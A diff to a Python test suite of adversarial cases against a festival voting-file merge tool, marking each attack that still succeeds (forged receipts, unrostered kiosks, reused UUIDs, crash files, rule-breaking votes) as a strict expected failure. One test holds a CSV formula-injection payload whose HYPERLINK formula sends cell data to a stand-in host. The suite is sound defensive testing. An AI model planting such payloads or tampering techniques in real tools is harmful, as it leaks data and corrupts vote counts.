@@ -3,7 +3,8 @@
 Same rules as `test_attacks.py`: each attack is played on a copy of the honest
 eight-booth festival and must end detected and named, `kiosk merge` exiting
 non-zero, and every honest booth's figures exactly what plain SQL over its own
-file says. A test here that fails is a finding: the attack got through.
+file says. A test marked `finding` is an attack that gets through today (strict
+xfail: remove the marker with the fix).
 """
 
 from __future__ import annotations
@@ -27,6 +28,13 @@ pytestmark = pytest.mark.slow
 ATTACKER = "DINKOMINFO"
 RIVAL = "DPUPR"
 HONEST = [a for a in BOOTHS if a != ATTACKER]
+
+
+def finding(why: str) -> pytest.MarkDecorator:
+    """An attack that gets through today. Strict: the test fails the suite the day the
+    attack is stopped, so the marker goes with the fix (raises=AssertionError: a crash of
+    the test itself is not the expected failure; a crash of the merge is asserted on)."""
+    return pytest.mark.xfail(strict=True, raises=AssertionError, reason=f"round 2 (#13): {why}")
 
 
 def first_innovation(festival: HonestFestival, agency: str) -> str:
@@ -64,6 +72,7 @@ def assert_own_votes_only(outcome: Outcome, desk: Desk, agency: str) -> None:
 # --- Receipts are what a screen shows: the attacker's screen can show any -------------
 
 
+@finding("one forged receipt for a rival's kiosk excludes the rival's whole file")
 @pytest.mark.parametrize("kind", ["spot", "close"])
 def test_a_forged_receipt_for_a_rivals_kiosk_does_not_knock_the_rival_out(
     desk: Desk, kind: str
@@ -90,6 +99,10 @@ def test_a_forged_receipt_for_a_rivals_kiosk_does_not_knock_the_rival_out(
     assert outcome.source(desk.files[RIVAL])["records_added"] > 0
 
 
+@finding(
+    "two opening receipts for one kiosk drop its roster binding;"
+    " a forged closing receipt then makes the rival a fork"
+)
 def test_conflicting_opening_receipts_do_not_unbind_the_roster(desk: Desk) -> None:
     """A forged opening receipt for the rival's kiosk (the attacker's chain start) plus a
     forged closing receipt for a short file made with the rival's kiosk id."""
@@ -116,6 +129,7 @@ def test_conflicting_opening_receipts_do_not_unbind_the_roster(desk: Desk) -> No
     assert_honest_booths_unchanged(outcome, desk, BOOTHS)
 
 
+@finding("a receipt number beyond SQLite's INTEGER crashes the merge (OverflowError)")
 def test_a_receipt_with_an_absurd_number_is_named_not_a_crash(desk: Desk) -> None:
     """One photographed QR with a sequence number SQLite cannot store."""
     forged = t2.forged_receipt(
@@ -137,6 +151,7 @@ def test_a_receipt_with_an_absurd_number_is_named_not_a_crash(desk: Desk) -> Non
 # --- Kiosks the roster does not know --------------------------------------------------
 
 
+@finding("a kiosk not on the roster is counted (exit 0 with its own closing receipt)")
 @pytest.mark.parametrize("receipted", [False, True], ids=["no-closing", "own-closing-receipt"])
 def test_a_second_unrostered_kiosk_of_the_attackers_agency_does_not_count(
     desk: Desk, receipted: bool
@@ -157,6 +172,7 @@ def test_a_second_unrostered_kiosk_of_the_attackers_agency_does_not_count(
     assert_honest_booths_unchanged(outcome, desk, HONEST)
 
 
+@finding("a kiosk not on the roster (or rostered by forged receipts) adds votes and sessions")
 @pytest.mark.parametrize("receipted", [False, True], ids=["unrostered", "forged-receipts"])
 def test_a_second_kiosk_claiming_a_rivals_agency_changes_nothing_of_the_rival(
     desk: Desk, receipted: bool
@@ -201,6 +217,7 @@ def test_a_second_kiosk_claiming_a_rivals_agency_changes_nothing_of_the_rival(
 # --- Records that collide with another kiosk's ---------------------------------------
 
 
+@finding("a UUID reused across kiosks crashes the merge (UNIQUE constraint)")
 def test_reusing_a_rivals_record_uuid_neither_crashes_nor_knocks_out(desk: Desk) -> None:
     """One record of the attacker's (after its spot check, before closing) carries the UUID
     of one of the rival's votes; the attacker's chain is intact and fully receipted."""
@@ -222,6 +239,7 @@ def test_reusing_a_rivals_record_uuid_neither_crashes_nor_knocks_out(desk: Desk)
     assert_honest_booths_unchanged(outcome, desk, HONEST)
 
 
+@finding("a UUID reused across kiosks crashes the merge (UNIQUE constraint)")
 def test_a_twin_with_the_same_uuids_under_a_new_kiosk_id_is_not_a_crash(desk: Desk) -> None:
     """A copy of the attacker's file re-chained under a new kiosk id, UUIDs kept."""
     twin = desk.root / "twin" / "booth.sqlite"
@@ -267,6 +285,7 @@ def test_records_naming_a_rivals_kiosk_inside_the_attackers_file_count_for_nobod
 # --- One file that stops everybody's merge -------------------------------------------
 
 
+@finding("one booth file with odd values or a missing content table crashes the merge")
 @pytest.mark.parametrize(
     "how",
     [
@@ -312,6 +331,7 @@ def test_one_odd_booth_file_does_not_stop_the_festivals_merge(desk: Desk, how: s
     assert_honest_booths_unchanged(outcome, desk, HONEST)
 
 
+@finding("every file of one kiosk holds an open connection while judged: too many open files")
 def test_hundreds_of_impostor_files_do_not_stop_the_merge(desk: Desk) -> None:
     """300 small files (photo cache emptied) that claim the rival's kiosk, on the attacker's
     stick, merged on an organizer's laptop that allows 256 open files per process (the
@@ -341,6 +361,7 @@ def test_hundreds_of_impostor_files_do_not_stop_the_merge(desk: Desk) -> None:
 # --- Votes the pack's rules forbid on their face -------------------------------------
 
 
+@finding("votes that break the pack's voting rules are counted (flags only, exit 0)")
 @pytest.mark.parametrize("how", ["one_session", "at_night"])
 def test_votes_that_break_the_packs_rules_do_not_count(desk: Desk, how: str) -> None:
     """Before the closing receipt (so every receipt holds): 30 votes for the attacker's own
@@ -355,6 +376,7 @@ def test_votes_that_break_the_packs_rules_do_not_count(desk: Desk, how: str) -> 
     assert_honest_booths_unchanged(outcome, desk, HONEST)
 
 
+@finding("the long-run watch uses the booth file's own max votes per session")
 def test_the_booths_own_rules_do_not_decide_its_anomaly_flags(desk: Desk) -> None:
     """The same 30 votes in one session; after closing, the file's festival row says a
     session may hold 1000 votes (a content edit only: no record changes). The long-run
@@ -388,6 +410,7 @@ def test_votes_for_an_innovation_not_in_the_pack_are_listed_not_ranked(desk: Des
 # --- Text a booth controls, in the organizers' tools ---------------------------------
 
 
+@finding("booth text starting with = is written to the CSV as is (formula injection)")
 def test_a_comment_is_not_a_formula_in_the_reports_csv(desk: Desk) -> None:
     """A comment typed at the booth that a spreadsheet would run as a formula."""
     payload = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Lihat foto")'
@@ -438,6 +461,7 @@ def test_a_kiosk_id_with_escapes_and_markup_reaches_no_terminal_or_page(desk: De
 # --- An earlier merge, judged again with a receipt that came later --------------------
 
 
+@finding("a forged receipt given to a later merge trims a rival merged before")
 def test_a_forged_receipt_given_later_does_not_trim_a_rival_merged_before(desk: Desk) -> None:
     first = merge(desk, receipts=desk.receipts_file())
     assert first.merge.exit_code == 0, first.said()
@@ -479,6 +503,7 @@ def assert_no_votes_beyond(outcome: Outcome, desk: Desk, spot: int) -> None:
     assert counted.get(slug, 0) <= cast, f"{counted.get(slug)} counted, {cast} cast before {spot}"
 
 
+@finding("a file shorter than a spot check is accepted with every record counted")
 def test_a_chain_rewritten_and_cut_below_the_spot_check_is_red(desk: Desk) -> None:
     """The file holds fewer records at closing than the spot check photographed at midday:
     whatever it holds was rewritten or removed since; its closing receipt (shown by the
@@ -494,6 +519,7 @@ def test_a_chain_rewritten_and_cut_below_the_spot_check_is_red(desk: Desk) -> No
     assert_honest_booths_unchanged(outcome, desk, HONEST)
 
 
+@finding("--accept-valid-prefix counts a prefix that no receipt confirms")
 def test_accept_valid_prefix_counts_no_rewritten_prefix(desk: Desk) -> None:
     """The same rewrite, hidden behind a chain break just before the spot check's sequence
     instead of a cut; the organizers then merge with --accept-valid-prefix, as the guide
